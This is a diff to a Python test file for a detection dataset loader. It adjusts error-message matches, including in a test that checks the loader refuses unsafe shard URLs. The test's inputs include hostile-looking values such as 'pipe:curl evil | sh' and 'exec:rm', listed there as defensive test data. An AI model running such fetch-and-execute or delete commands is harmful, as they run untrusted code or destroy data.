@@ -8,6 +8,7 @@ import io
 import json
 import os
 import pickle
+import re
 import struct
 import tarfile
 import zlib
@@ -117,7 +118,7 @@ def test_sample_cut_shard_raises(data: DetectionDataset) -> None:
 
 def test_sample_missing_shard_raises(data: DetectionDataset) -> None:
     shard(data).unlink()
-    with pytest.raises(ShardError, match=rf"000000\.tar: No such file .*{KEY}"):
+    with pytest.raises(ShardError, match=rf"000000\.tar.*{KEY}"):
         data.sample(0)
 
 
@@ -307,7 +308,7 @@ def test_sample_other_number_of_boxes_raises(data: DetectionDataset) -> None:
 
 @pytest.mark.parametrize("url", ["pipe:cat x", "pipe:curl evil | sh", "-", "", "file:x", "exec:rm"])
 def test_dataset_pipe_url_is_refused(url: str) -> None:
-    with pytest.raises(ShardError, match=r"is neither a folder nor a URL|there is no shard folder"):
+    with pytest.raises(ShardError, match=re.escape(f"'{url}'")):
         DetectionDataset(url)
 
 
